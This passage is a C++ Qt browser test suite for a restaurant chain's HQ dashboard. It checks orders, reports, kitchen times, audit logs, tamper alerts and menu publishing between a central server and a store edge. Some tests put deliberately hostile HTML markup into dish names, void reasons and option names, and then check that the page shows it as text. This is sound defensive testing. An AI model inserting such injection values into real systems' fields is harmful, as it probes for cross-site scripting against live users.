// The HQ dashboard in headless Chromium against a real central server and a real edge
// linked to it: log in, see the store online with today's orders, edit a price and see
// the edge's menu change, watch the live feed, switch language; saves a screenshot of
// each page into docs/screenshots/.

#include "browser.h"
#include "centralprocess.h"
#include "edgeprocess.h"
#include "httpclient.h"
#include "sync.pb.h"
#include "testsupport.h"

#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>
#include <QUuid>

using namespace Qt::StringLiterals;
using namespace tableorder::test;

class TestDashboard : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void overviewShowsTheStoreOnlineWithTodaysOrders();
    void storePageDrawsCharts();
    void reportsPageShowsTheFigures();
    void kitchenTimesPageShowsTheSlowestDishFirst();
    void moneyAndAuditShowWhatTheStoreRecorded();
    void journalAlertNamesStoreAndSeq();
    void priceEditReachesTheEdge();
    void newItemWithPictureReachesTheEdge();
    void optionGroupEditorPublishes();
    void categoryTranslationsAndHoursReachTheEdge();
    void liveFeedShowsANewOrder();
    void liveFeedCatchesUpAfterADrop();
    void languageSwitchesToEnglish();
    void hostileNamesShowAsText();
    void csvExportNeutralisesFormulas();
    void policyForbidsFormsElsewhereAndBaseUrls();

private:
    void placeOrder(int table, qint64 item, int quantity);
    void shoot(const QString &name);
    /// "Save and publish" shows what will change first; its button publishes.
    void confirmPublish();
    qint64 edgePrice(qint64 itemId);
    /// The newest menu HQ published for the store, exactly as the linked edge receives it
    /// (MenuUpdate.menu_json of /sync/v1/menu).
    QJsonObject publishedMenu();
    qint64 centralAppliedSeq();

    std::unique_ptr<CentralProcess> m_central;
    std::unique_ptr<EdgeProcess> m_edge;
    Browser m_browser;
    HttpClient m_edgeHttp;
    qint64 m_ordersTotal = 0;
};

void TestDashboard::initTestCase()
{
    if (Browser::executable().isEmpty())
        QSKIP("chromium is not installed (scripts/install-deps.sh installs it)");
    CentralProcess::Options central;
    central.environment = {{u"TABLEORDER_ALERTS_EVALUATE_MS"_s, u"300"_s}};
    m_central = std::make_unique<CentralProcess>(central);
    VERIFY_CENTRAL_STARTED(*m_central);
    EdgeProcess::Options options;
    options.arguments = {u"--central"_s, m_central->url(), u"--store-key"_s, m_central->demoStoreKey()};
    // Uploads retry within half a second: a failed upload must not hold the live feed's order
    // back for the default 30 s backoff.
    options.environment = {{u"TABLEORDER_SYNC_HEARTBEAT_MS"_s, u"300"_s}, {u"TABLEORDER_SYNC_MAX_BACKOFF_MS"_s, u"500"_s}};
    m_edge = std::make_unique<EdgeProcess>(options);
    QVERIFY2(m_edge->start(), qPrintable(m_edge->errorString()));
    m_edgeHttp.setPort(m_edge->port());
    // The edge applies HQ's published menu; wait for it before ordering.
    QTRY_VERIFY_WITH_TIMEOUT(m_edgeHttp.get(u"/metrics"_s).body.contains("tableorder_sync_central_menu_version 1"), 10'000);
    placeOrder(1, 1, 2);
    placeOrder(2, 2, 1);
    placeOrder(3, 14, 1);
    QVERIFY2(m_browser.start(1366, 900), qPrintable(m_browser.errorString()));
    QVERIFY(m_browser.navigate(m_central->url() + u"/"_s));
    QVERIFY(m_browser.waitFor(u"document.querySelector('#login')"_s));
    m_browser.evaluate(uR"(document.querySelector('[name=username]').value = 'hq';
                           document.querySelector('[name=password]').value = 'hq';
                           document.querySelector('#login button').click(); true)"_s);
}

void TestDashboard::placeOrder(int table, qint64 item, int quantity)
{
    const QString token = m_edgeHttp.tableLogin(table);
    const HttpResult placed = m_edgeHttp.post(u"/api/v1/orders"_s,
                                              {{u"client_order_id"_s, QUuid::createUuid().toString(QUuid::WithoutBraces)},
                                               {u"items"_s, QJsonArray{QJsonObject{{u"menu_item_id"_s, item}, {u"quantity"_s, quantity}}}}},
                                              token);
    QCOMPARE(placed.status, 201);
    m_ordersTotal += placed.json().value(u"total"_s).toInteger();
}

void TestDashboard::shoot(const QString &name)
{
    const QString dir = QStringLiteral(TABLEORDER_SOURCE_DIR) + u"/docs/screenshots"_s;
    QDir().mkpath(dir);
    QVERIFY2(m_browser.screenshot(dir + u'/' + name + u".png"_s), qPrintable(m_browser.errorString()));
}

void TestDashboard::confirmPublish()
{
    QVERIFY2(m_browser.waitFor(u"document.querySelector('#publish-confirm')"_s),
             qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
    m_browser.evaluate(u"document.querySelector('#publish-confirm').click(); true"_s);
}

qint64 TestDashboard::edgePrice(qint64 itemId)
{
    const QJsonObject menu = m_edgeHttp.get(u"/api/v1/menu"_s).json();
    for (const QJsonValue &c : menu.value(u"categories"_s).toArray()) {
        for (const QJsonValue &i : c.toObject().value(u"items"_s).toArray()) {
            if (i.toObject().value(u"id"_s).toInteger() == itemId)
                return i.toObject().value(u"price"_s).toInteger();
        }
    }
    return -1;
}

qint64 TestDashboard::centralAppliedSeq()
{
    HttpClient hq(m_central->port());
    const QString token = hq.post(u"/api/v1/auth/login"_s, {{u"username"_s, u"hq"_s}, {u"password"_s, u"hq"_s}})
                                  .json().value(u"token"_s).toString();
    for (const QJsonValue &store : hq.get(u"/api/v1/stores"_s, token).json().value(u"stores"_s).toArray()) {
        if (store.toObject().value(u"id"_s).toInteger() == 1)
            return store.toObject().value(u"applied_seq"_s).toInteger();
    }
    return -1;
}

void TestDashboard::overviewShowsTheStoreOnlineWithTodaysOrders()
{
    QVERIFY2(m_browser.waitFor(u"document.querySelector('.store-row .badge.ok')"_s, 15'000), qPrintable(m_browser.errorString()));
    // Orders reach HQ through sync; reload until the KPI shows all three.
    const QString expected = QString::number(3);
    bool seen = false;
    for (int attempt = 0; attempt < 20 && !seen; ++attempt) {
        m_browser.evaluate(u"location.hash = '#/overview?' + Date.now(); true"_s);
        seen = m_browser.waitFor(u"document.querySelector('#kpi-orders .value') && document.querySelector('#kpi-orders .value').textContent === '%1'"_s.arg(expected), 1500);
    }
    QVERIFY2(seen, qPrintable(m_browser.evaluate(u"document.body.innerText"_s).toString()));
    const QString sales = m_browser.evaluate(u"document.querySelector('#kpi-sales .value').textContent"_s).toString();
    QCOMPARE(sales, u"₩"_s + QLocale(QLocale::Korean).toString(m_ordersTotal));
    shoot(u"dashboard-overview"_s);
}

void TestDashboard::storePageDrawsCharts()
{
    m_browser.evaluate(u"location.hash = '#/store/1'; true"_s);
    const QString hourly = u"ChartKit.describe(document.querySelector('#hourly'))"_s;
    QVERIFY2(m_browser.waitFor(hourly + u".state === 'ready' && ChartKit.describe(document.querySelector('#top-items')).datasets[0].values.length >= 3"_s),
             qPrintable(m_browser.errorString()));
    // The business day's 24 hours from the 04:00 cutoff; hours still ahead are gaps, not ₩0;
    // the money axis in round won steps. (The hour of the business day in Seoul, the demo
    // store's zone, read before and after: the page may have drawn on either side of an hour.)
    const auto businessHour = [] { return (QDateTime::currentDateTimeUtc().addSecs(9 * 3600).time().hour() - 4 + 24) % 24; };
    const int before = businessHour();
    const QJsonObject chart = m_browser.evaluate(hourly).toObject();
    const int after = businessHour();
    const QJsonArray values = chart.value(u"datasets"_s).toArray().first().toObject().value(u"values"_s).toArray();
    QCOMPARE(values.size(), 24);
    for (int i = 0; i < 24; ++i) {
        if (i <= std::min(before, after))
            QVERIFY2(!values.at(i).isNull(), qPrintable(u"hour %1 of the business day"_s.arg(i)));
        else if (i > after)
            QVERIFY2(values.at(i).isNull(), qPrintable(u"hour %1 of the business day"_s.arg(i)));
    }
    const QString roundWon = uR"((d => { const v = d.y.map(s => Number(s.replace(/[₩,]/g, ''))); const step = v[1] - v[0];
        return d.y.length >= 2 && d.y.every(s => /^₩[0-9,]+$/.test(s)) && /^[125]0*$/.test(String(step))
            && v.every((x, i) => x === i * step); }))"_s;
    QVERIFY2(m_browser.evaluate(roundWon + u"(%1)"_s.arg(hourly)).toBool(),
             qPrintable(QString::fromUtf8(QJsonDocument(chart.value(u"y"_s).toArray()).toJson(QJsonDocument::Compact))));
    // No order is cooked yet: the prep-time trend says "no data" instead of drawing zeros.
    QVERIFY(m_browser.waitFor(u"document.querySelector('#prep').dataset.state === 'empty'"_s));
    QCOMPARE(m_browser.evaluate(u"document.querySelector('#prep .chart-empty').textContent"_s).toString(), u"데이터 없음"_s);
    QCOMPARE(m_browser.evaluate(u"document.querySelectorAll('#prep canvas').length"_s).toInt(), 0);
    shoot(u"dashboard-store"_s);
}

void TestDashboard::reportsPageShowsTheFigures()
{
    m_browser.evaluate(u"location.hash = '#/reports'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelectorAll('#report-table tr').length >= 2"_s));
    const QString text = m_browser.evaluate(u"document.querySelector('#report-table').innerText"_s).toString();
    QVERIFY2(text.contains(QLocale(QLocale::Korean).toString(m_ordersTotal)), qPrintable(text));
    shoot(u"dashboard-reports"_s);
}

void TestDashboard::kitchenTimesPageShowsTheSlowestDishFirst()
{
    // At the store: two orders done in the kitchen (one dish by its line, the rest at once).
    const QString kitchen = m_edgeHttp.staffLogin(u"kitchen"_s, u"kitchen"_s);
    QVERIFY(!kitchen.isEmpty());
    QString date;
    for (const auto &[table, items] : {std::pair{5, QList<qint64>{1, 22}}, std::pair{6, QList<qint64>{2}}}) {
        QJsonArray lines;
        for (qint64 item : items)
            lines.append(QJsonObject{{u"menu_item_id"_s, item}, {u"quantity"_s, 1}});
        const HttpResult placed = m_edgeHttp.post(u"/api/v1/orders"_s,
                                                  {{u"client_order_id"_s, QUuid::createUuid().toString(QUuid::WithoutBraces)},
                                                   {u"items"_s, lines}},
                                                  m_edgeHttp.tableLogin(table));
        VERIFY_STATUS(placed, 201);
        const qint64 id = placed.json().value(u"id"_s).toInteger();
        date = placed.json().value(u"business_date"_s).toString();
        const qint64 firstLine = placed.json().value(u"items"_s).toArray().at(0).toObject().value(u"id"_s).toInteger();
        VERIFY_STATUS(m_edgeHttp.post(u"/api/v1/orders/%1/lines/%2/done"_s.arg(id).arg(firstLine), {}, kitchen), 200);
        if (items.size() > 1)
            VERIFY_STATUS(m_edgeHttp.patch(u"/api/v1/orders/%1"_s.arg(id), {{u"status"_s, u"completed"_s}}, kitchen), 200);
    }
    // A second store uploads a lunch of realistic times (what a rush looks like), one dish
    // named with markup: the page must show it as text.
    HttpClient hq(m_central->port());
    const QString token = hq.post(u"/api/v1/auth/login"_s, {{u"username"_s, u"hq"_s}, {u"password"_s, u"hq"_s}})
                                  .json().value(u"token"_s).toString();
    const HttpResult store = hq.post(u"/api/v1/stores"_s, {{u"name"_s, u"홍대점"_s}}, token);
    VERIFY_STATUS(store, 201);
    const QString hostileDish = u"<b>매운</b> 갈비찜"_s;
    struct Dish { qint64 item; QString name; QString station; QList<int> minutes; };
    const QList<Dish> dishes{{101, hostileDish, u"kitchen"_s, {14, 18, 22, 31}},
                             {102, u"김치찌개"_s, u"kitchen"_s, {8, 9, 11, 16}},
                             {103, u"해물파전"_s, u"kitchen"_s, {12, 13, 19}},
                             {104, u"생맥주"_s, u"bar"_s, {2, 3, 3, 6}}};
    tableorder::sync::v1::UploadRequest request;
    qint64 seq = 0;
    qint64 orderId = 0;
    const QDateTime lunch = QDateTime::currentDateTimeUtc().addSecs(-3 * 3600);
    auto add = [&](const char *type, const QJsonObject &data, const QDateTime &at) {
        auto *e = request.add_events();
        e->set_event_id(QUuid::createUuid().toString(QUuid::WithoutBraces).toStdString());
        e->set_seq(++seq);
        e->set_schema_version(1);
        e->set_type(type);
        e->set_at(at.toString(Qt::ISODateWithMs).toStdString());
        e->set_data_json(QJsonDocument(data).toJson(QJsonDocument::Compact).toStdString());
    };
    for (const Dish &dish : dishes) {
        for (int minutes : dish.minutes) {
            ++orderId;
            const QDateTime created = lunch.addSecs(orderId * 90);
            const QDateTime done = created.addSecs(minutes * 60 + 17);
            QJsonObject order{{u"id"_s, orderId}, {u"number"_s, orderId}, {u"business_date"_s, date},
                              {u"table_id"_s, 1}, {u"table_number"_s, 1}, {u"session_id"_s, orderId},
                              {u"status"_s, u"completed"_s}, {u"total"_s, 10000}, {u"note"_s, u""_s},
                              {u"client_order_id"_s, QUuid::createUuid().toString(QUuid::WithoutBraces)},
                              {u"created_at"_s, created.toString(Qt::ISODateWithMs)},
                              {u"updated_at"_s, done.toString(Qt::ISODateWithMs)},
                              {u"completed_at"_s, done.toString(Qt::ISODateWithMs)},
                              {u"items"_s, QJsonArray{QJsonObject{{u"id"_s, orderId}, {u"menu_item_id"_s, dish.item},
                                                                  {u"name"_s, dish.name}, {u"unit_price"_s, 10000},
                                                                  {u"quantity"_s, 1}, {u"line_total"_s, 10000},
                                                                  {u"station"_s, dish.station}}}}};
            add("order.created", order, created);
            add("order.lines_done",
                {{u"order_id"_s, orderId}, {u"item_ids"_s, QJsonArray{orderId}}, {u"station"_s, dish.station},
                 {u"done_at"_s, done.toString(Qt::ISODateWithMs)}, {u"business_date"_s, date},
                 {u"order_created_at"_s, created.toString(Qt::ISODateWithMs)},
                 {u"lines"_s, QJsonArray{QJsonObject{{u"id"_s, orderId}, {u"menu_item_id"_s, dish.item},
                                                     {u"name"_s, dish.name}, {u"station"_s, dish.station}}}}},
                done);
            add("order.updated", order, done);
        }
    }
    request.set_last_seq(seq);
    request.set_edge_version("test");
    VERIFY_STATUS(hq.send("POST", u"/sync/v1/events"_s, QByteArray::fromStdString(request.SerializeAsString()),
                          store.json().value(u"store_key"_s).toString(), {{"Content-Type", "application/x-protobuf"}}),
                  200);

    // HQ has the edge's once it synced.
    QJsonObject report;
    QTRY_VERIFY_WITH_TIMEOUT((report = hq.get(u"/api/v1/reports/kitchen-times?from=%1&to=%1"_s.arg(date), token).json(),
                              report.value(u"items"_s).toArray().size() == 3 + dishes.size()),
                             15'000);
    const QJsonArray items = report.value(u"items"_s).toArray();

    m_browser.evaluate(u"location.hash = '#/kitchen'; true"_s);
    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('#kitchen-items tr.kitchen-item').length === %1 && document.querySelector('#kitchen-chart').dataset.points === '%1'"_s.arg(items.size())),
             qPrintable(m_browser.evaluate(u"document.body.innerText"_s).toString()));
    // The table is HQ's rows in HQ's order (per store, slowest first), names as text.
    for (int i = 0; i < items.size(); ++i) {
        const QJsonObject row = items.at(i).toObject();
        QCOMPARE(m_browser.evaluate(u"document.querySelectorAll('#kitchen-items tr.kitchen-item')[%1].querySelector('.dish').textContent"_s.arg(i))
                         .toString(),
                 row.value(u"name"_s).toString());
        if (i > 0 && items.at(i - 1).toObject().value(u"store_id"_s) == row.value(u"store_id"_s))
            QVERIFY(row.value(u"p90_s"_s).toDouble() <= items.at(i - 1).toObject().value(u"p90_s"_s).toDouble());
    }
    QVERIFY(m_browser.evaluate(u"document.querySelectorAll('#app b, #app [onerror]').length === 0"_s).toBool());
    // The second store's slowest dish: nearest-rank p50 of 14, 18, 22, 31 min (+17 s) is the
    // 2nd, p90 the 4th.
    const QJsonObject slowest = [&] {
        for (const QJsonValue &row : items) {
            if (row.toObject().value(u"name"_s).toString() == hostileDish)
                return row.toObject();
        }
        return QJsonObject();
    }();
    QCOMPARE(slowest.value(u"p50_s"_s).toDouble(), 18 * 60 + 17.0);
    QCOMPARE(slowest.value(u"p90_s"_s).toDouble(), 31 * 60 + 17.0);
    QCOMPARE(m_browser.evaluate(u"document.querySelectorAll('#kitchen-stations tr.kitchen-station').length"_s).toInt(),
             report.value(u"stations"_s).toArray().size());
    shoot(u"dashboard-kitchen-times"_s);
}

void TestDashboard::moneyAndAuditShowWhatTheStoreRecorded()
{
    // At the store: table 1 orders more, the manager voids that line (a reason with markup),
    // gives 10 % off and takes the rest by card and cash.
    const QString manager = m_edgeHttp.staffLogin(u"manager"_s, u"manager"_s);
    QVERIFY(!manager.isEmpty());
    const QString table = m_edgeHttp.tableLogin(1);
    const HttpResult extra = m_edgeHttp.post(u"/api/v1/orders"_s,
                                             {{u"client_order_id"_s, QUuid::createUuid().toString(QUuid::WithoutBraces)},
                                              {u"items"_s, QJsonArray{QJsonObject{{u"menu_item_id"_s, 2}, {u"quantity"_s, 1}}}}},
                                             table);
    VERIFY_STATUS(extra, 201);
    const QString date = extra.json().value(u"business_date"_s).toString();
    qint64 tableId = 0;
    for (const QJsonValue &t : m_edgeHttp.get(u"/api/v1/tables"_s, manager).json().value(u"tables"_s).toArray()) {
        if (t.toObject().value(u"number"_s).toInt() == 1)
            tableId = t.toObject().value(u"id"_s).toInteger();
    }
    const QString reason = u"<b>쏟음</b>"_s;
    VERIFY_STATUS(m_edgeHttp.post(u"/api/v1/orders/%1/void"_s.arg(extra.json().value(u"id"_s).toInteger()),
                                  {{u"reason"_s, reason}}, manager),
                  200);
    VERIFY_STATUS(m_edgeHttp.post(u"/api/v1/tables/%1/discounts"_s.arg(tableId),
                                  {{u"kind"_s, u"percent"_s}, {u"value"_s, 10}, {u"reason"_s, u"단골"_s}}, manager),
                  201);
    const qint64 due = m_edgeHttp.get(u"/api/v1/tables/%1/bill"_s.arg(tableId), manager).json().value(u"due"_s).toInteger();
    QVERIFY(due > 5000);
    for (const auto &[method, amount] : {std::pair{u"card"_s, due - 5000}, std::pair{u"cash"_s, qint64(5000)}})
        VERIFY_STATUS(m_edgeHttp.post(u"/api/v1/tables/%1/payments"_s.arg(tableId),
                                      {{u"client_payment_id"_s, QUuid::createUuid().toString(QUuid::WithoutBraces)},
                                       {u"method"_s, method}, {u"amount"_s, amount}},
                                      manager),
                      201);
    const QJsonObject report = m_edgeHttp.get(u"/api/v1/business-days/%1/report"_s.arg(date), manager).json();
    QVERIFY(report.value(u"voids"_s).toInteger() > 0);

    // HQ's reports page: the day's row shows the store's figures, to the won.
    const auto wonText = [](qint64 v) -> QString { return u"₩"_s + QLocale(QLocale::Korean).toString(v); };
    const QString cell = u"(document.querySelector('.day-row[data-store=\"1\"][data-date=\"%1\"] [data-field=%2]') || {}).textContent"_s;
    bool seen = false;
    for (int attempt = 0; attempt < 20 && !seen; ++attempt) {
        m_browser.evaluate(u"location.hash = '#/reports/' + Date.now(); true"_s);
        seen = m_browser.waitFor(u"String("_s + cell.arg(date, u"cash"_s) + u").replace(/\\D/g, '') === '5000'"_s, 1500);
    }
    QVERIFY2(seen, qPrintable(m_browser.evaluate(u"document.body.innerText"_s).toString()));
    for (const QString &field : {u"gross"_s, u"voids"_s, u"discounts"_s, u"net"_s})
        QCOMPARE(m_browser.evaluate(cell.arg(date, field)).toString(), wonText(report.value(field).toInteger()));
    const QJsonObject methods = report.value(u"payments_by_method"_s).toObject();
    for (const QString &method : {u"card"_s, u"cash"_s, u"transfer"_s})
        QCOMPARE(m_browser.evaluate(cell.arg(date, method)).toString(), wonText(methods.value(method).toInteger()));
    QCOMPARE(m_browser.evaluate(u"document.querySelector('#methods-total').textContent"_s).toString(),
             wonText(report.value(u"paid"_s).toInteger()));
    QVERIFY(m_browser.waitFor(u"ChartKit.describe(document.querySelector('#methods-chart')).datasets[0].values.length === 4"_s));
    m_browser.evaluate(u"document.querySelector('#days-card').scrollIntoView(); true"_s);
    shoot(u"dashboard-reports-payments"_s);

    // The audit log: the manager's void (its reason as text, not markup), discount and payments.
    m_browser.evaluate(u"location.hash = '#/audit'; true"_s);
    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('.audit-row[data-type=\"payment.recorded\"]').length === 2"_s),
             qPrintable(m_browser.evaluate(u"document.body.innerText"_s).toString()));
    QVERIFY(m_browser.evaluate(u"document.querySelectorAll('.audit-row[data-type=\"bill.discount_added\"]').length === 1"_s).toBool());
    const QString voidText = m_browser.evaluate(
            u"document.querySelector('.audit-row[data-type=\"order.voided\"] .audit-detail').textContent"_s).toString();
    QVERIFY2(voidText.contains(reason), qPrintable(voidText));
    QVERIFY(m_browser.evaluate(u"document.querySelectorAll('#audit-table b').length === 0"_s).toBool());
    QVERIFY(m_browser.evaluate(u"document.querySelector('#audit-table').innerText.includes('manager')"_s).toBool());
    // The kitchen's actions in words too, never the event's type.
    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('.audit-row td:nth-child(4)')].every(td => !/^[a-z_]+\\.[a-z_]+$/.test(td.textContent))"_s).toBool());
    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('.audit-row[data-type=\"order.lines_done\"] .audit-detail')].some(td => td.textContent.length > 0)"_s).toBool());
    shoot(u"dashboard-audit"_s);
}

void TestDashboard::journalAlertNamesStoreAndSeq()
{
    // A store whose first uploaded event does not chain from the genesis hash: HQ raises
    // journal_broken, and the alerts page says which store and which record, in words.
    HttpClient hq(m_central->port());
    const QString token = hq.post(u"/api/v1/auth/login"_s, {{u"username"_s, u"hq"_s}, {u"password"_s, u"hq"_s}})
                                  .json().value(u"token"_s).toString();
    const HttpResult store = hq.post(u"/api/v1/stores"_s, {{u"name"_s, u"강남점"_s}}, token);
    VERIFY_STATUS(store, 201);
    tableorder::sync::v1::UploadRequest request;
    auto *e = request.add_events();
    e->set_event_id(QUuid::createUuid().toString(QUuid::WithoutBraces).toStdString());
    e->set_seq(1);
    e->set_schema_version(1);
    e->set_type("table.changed");
    e->set_at(QDateTime::currentDateTimeUtc().toString(Qt::ISODateWithMs).toStdString());
    e->set_data_json("{}");
    e->set_hash(std::string(32, 'x'));
    request.set_last_seq(1);
    request.set_edge_version("test");
    const HttpResult uploaded = hq.send("POST", u"/sync/v1/events"_s, QByteArray::fromStdString(request.SerializeAsString()),
                                        store.json().value(u"store_key"_s).toString(),
                                        {{"Content-Type", "application/x-protobuf"}});
    VERIFY_STATUS(uploaded, 200);
    bool seen = false;
    for (int attempt = 0; attempt < 20 && !seen; ++attempt) {
        m_browser.evaluate(u"location.hash = location.hash === '#/alerts/open' ? '#/alerts/open/' + Date.now() : '#/alerts/open'; true"_s);
        seen = m_browser.waitFor(u"[...document.querySelectorAll('.alert-message')].some(m => m.textContent.includes('강남점 매장의 거래 기록 1번'))"_s, 1500);
    }
    QVERIFY2(seen, qPrintable(m_browser.evaluate(u"document.body.innerText"_s).toString()));
    QVERIFY(m_browser.evaluate(u"document.querySelector('#alert-list').innerText.includes('거래 기록 변조 의심')"_s).toBool());
    shoot(u"dashboard-alerts-journal"_s);
}

QJsonObject TestDashboard::publishedMenu()
{
    HttpClient central(m_central->port());
    const HttpResult published = central.get(u"/sync/v1/menu?after=0&wait=0"_s, m_central->demoStoreKey());
    tableorder::sync::v1::MenuUpdate update;
    if (published.status != 200 || !update.ParseFromArray(published.body.constData(), int(published.body.size())))
        return {};
    return QJsonDocument::fromJson(QByteArray::fromStdString(update.menu_json())).object();
}

void TestDashboard::priceEditReachesTheEdge()
{
    QCOMPARE(edgePrice(1), 9000);
    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('[name=price-1]')"_s));
    m_browser.evaluate(uR"(const input = document.querySelector('[name=price-1]');
                           input.value = '9900'; document.querySelector('#menu-save').click(); true)"_s);
    confirmPublish();
    QTRY_COMPARE_WITH_TIMEOUT(edgePrice(1), 9900, 5'000);
    // The page reloads itself after the publish: the saved price is now the one it started
    // from (the next edit starts on that page, not on one about to be replaced).
    QVERIFY2(m_browser.waitFor(u"!state.rendering && document.querySelector('[name=price-1]')?.dataset.original === '9,900'"_s, 10'000),
             qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status')?.textContent"_s).toString()));
}

void TestDashboard::newItemWithPictureReachesTheEdge()
{
    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
    QVERIFY(m_browser.waitFor(u"!state.rendering && document.querySelector('.new-item .add-item')"_s));
    // A picture as a user would pick it: a PNG file in the first category's new-item row.
    m_browser.evaluate(uR"((() => {
        const canvas = document.createElement('canvas');
        canvas.width = 400; canvas.height = 300;
        const g = canvas.getContext('2d');
        g.fillStyle = '#c2410c'; g.fillRect(0, 0, 400, 300);
        g.fillStyle = '#fde68a'; g.beginPath(); g.arc(200, 150, 100, 0, 7); g.fill();
        const bytes = Uint8Array.from(atob(canvas.toDataURL('image/png').split(',')[1]), c => c.charCodeAt(0));
        const row = document.querySelector('.new-item');
        row.querySelector('[name=new-name]').value = '사진 메뉴';
        row.querySelector('[name=new-price]').value = '7000';
        row.querySelector('[name=new-description]').value = 'HQ에서 올린 사진';
        const files = new DataTransfer();
        files.items.add(new File([bytes], 'dish.png', { type: 'image/png' }));
        const input = row.querySelector('[name=new-picture]');
        input.files = files.files;
        input.dispatchEvent(new Event('change'));
        row.querySelector('.add-item').click();
        return true; })())"_s);
    // Staged: the page shows the new item with its picture; then publish.
    QVERIFY2(m_browser.waitFor(u"[...document.querySelectorAll('tr.menu-item')].some(r => "
                               "r.querySelector('input').value === '사진 메뉴' && r.querySelector('img.thumb').src.includes('/images/'))"_s,
                               10'000),
             qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
    m_browser.evaluate(u"document.querySelector('#menu-save').click(); true"_s);
    confirmPublish();

    QString url;
    QTRY_VERIFY_WITH_TIMEOUT(([&] {
        const QJsonObject menu = m_edgeHttp.get(u"/api/v1/menu"_s).json();
        for (const QJsonValue &c : menu.value(u"categories"_s).toArray()) {
            for (const QJsonValue &i : c.toObject().value(u"items"_s).toArray()) {
                if (i.toObject().value(u"name"_s).toString() == u"사진 메뉴"_s)
                    url = i.toObject().value(u"image_url"_s).toString();
            }
        }
        return url.startsWith(u"/images/"_s);
    })(), 10'000);
    const HttpResult picture = m_edgeHttp.get(url);
    QCOMPARE(picture.status, 200);
    QCOMPARE(picture.header("Content-Type"), QByteArray("image/jpeg"));
    QVERIFY(picture.body.startsWith("\xFF\xD8\xFF"));
    m_browser.evaluate(u"location.hash = '#/menus/1'; window.scrollTo(0, 0); true"_s);
    QVERIFY(m_browser.waitFor(u"[...document.querySelectorAll('img.thumb')].some(i => !i.hidden && i.complete && i.naturalWidth > 0)"_s));
    shoot(u"dashboard-menus"_s);
}

void TestDashboard::optionGroupEditorPublishes()
{
    // Issue 12 at HQ: a new option group with two options and an English name, given to an
    // item (김치전, which the demo gives no group) with one more allergen, a tag, an English
    // description and lunch hours, then "Save and publish".
    HttpClient hq(m_central->port());
    const QString token = hq.post(u"/api/v1/auth/login"_s, {{u"username"_s, u"hq"_s}, {u"password"_s, u"hq"_s}})
                                  .json().value(u"token"_s).toString();
    QVERIFY(!token.isEmpty());
    const qint64 versionBefore = hq.get(u"/api/v1/stores/1/menu"_s, token).json().value(u"published_version"_s).toInteger();

    // A fresh menu page (through another page, so the hash changes).
    m_browser.evaluate(u"location.hash = '#/reports'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('#report-table') && !document.querySelector('#new-group')"_s));
    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('#new-group')"_s));
    m_browser.evaluate(uR"((() => {
        document.querySelector('#new-group').click();
        const group = [...document.querySelectorAll('fieldset.option-group')].pop();
        group.querySelector('.group-name').value = '소스';
        group.querySelector('.group-min').value = '1';
        group.querySelector('.group-max').value = '1';
        group.querySelector('.group-tr[data-lang=en]').value = 'Sauce';
        group.querySelector('.add-option').click();
        const rows = group.querySelectorAll('.option-row');
        rows[0].querySelector('.option-name').value = '간장 소스';
        rows[0].querySelector('.option-delta').value = '0';
        rows[0].querySelector('.option-tr[data-lang=en]').value = 'Soy sauce';
        rows[1].querySelector('.option-name').value = '<b>아주</b> 매운맛';
        rows[1].querySelector('.option-delta').value = '500';
        rows[1].querySelector('.option-tr[data-lang=ja]').value = '激辛';
        group.querySelector('.save-group').click();
        return true; })())"_s);
    // Staged: the page comes back with the group saved (it has an id now).
    QVERIFY2(m_browser.waitFor(u"[...document.querySelectorAll('fieldset.option-group[data-group]')].some(g => "
                               "g.querySelector('.group-name').value === '소스')"_s,
                               10'000),
             qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
    m_browser.evaluate(u"document.querySelector('#option-groups').scrollIntoView(); true"_s);
    shoot(u"dashboard-option-groups"_s);
    // The option's markup is text in an input, nowhere markup.
    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('.option-name')].some(i => i.value === '<b>아주</b> 매운맛') "
                               "&& document.querySelectorAll('#app b').length === 0"_s).toBool());

    // 김치전's details (demo: wheat and egg, en/zh/ja names): the group, one more allergen,
    // a tag, an English description, hours.
    m_browser.evaluate(uR"((() => {
        document.querySelector('.toggle-details[data-item="15"]').click();
        const details = document.querySelector('tr.item-details[data-item="15"]');
        const group = [...details.querySelectorAll('.item-group')].find(c => c.parentElement.textContent.trim() === '소스');
        group.checked = true;
        details.querySelector('.item-allergen[value=pork]').checked = true;
        details.querySelector('.item-tag[value=spicy]').checked = true;
        details.querySelector('.item-tr[data-lang=en][data-field=description]').value = 'Crispy kimchi pancake';
        details.querySelector('.item-hours').value = '1-5 11:00-14:00';
        return true; })())"_s);
    m_browser.evaluate(u"document.querySelector('#menu-save').click(); true"_s);
    confirmPublish();

    // Saved at HQ: the working menu carries all of it.
    QJsonObject item;
    QTRY_VERIFY_WITH_TIMEOUT(([&] {
        const QJsonObject menu = hq.get(u"/api/v1/stores/1/menu"_s, token).json();
        if (menu.value(u"published_version"_s).toInteger() <= versionBefore)
            return false;
        for (const QJsonValue &c : menu.value(u"categories"_s).toArray()) {
            for (const QJsonValue &i : c.toObject().value(u"items"_s).toArray()) {
                if (i.toObject().value(u"id"_s).toInteger() == 15)
                    item = i.toObject();
            }
        }
        return item.value(u"option_group_ids"_s).toArray().size() == 1;
    })(), 10'000);
    QCOMPARE(item.value(u"name"_s).toString(), u"김치전"_s);
    QStringList allergens;
    for (const QJsonValue &a : item.value(u"allergens"_s).toArray())
        allergens.append(a.toString());
    allergens.sort();
    QCOMPARE(allergens, (QStringList{u"egg"_s, u"pork"_s, u"wheat"_s}));
    QCOMPARE(item.value(u"tags"_s).toArray(), QJsonArray{u"spicy"_s});
    QCOMPARE(item.value(u"translations"_s).toObject(),
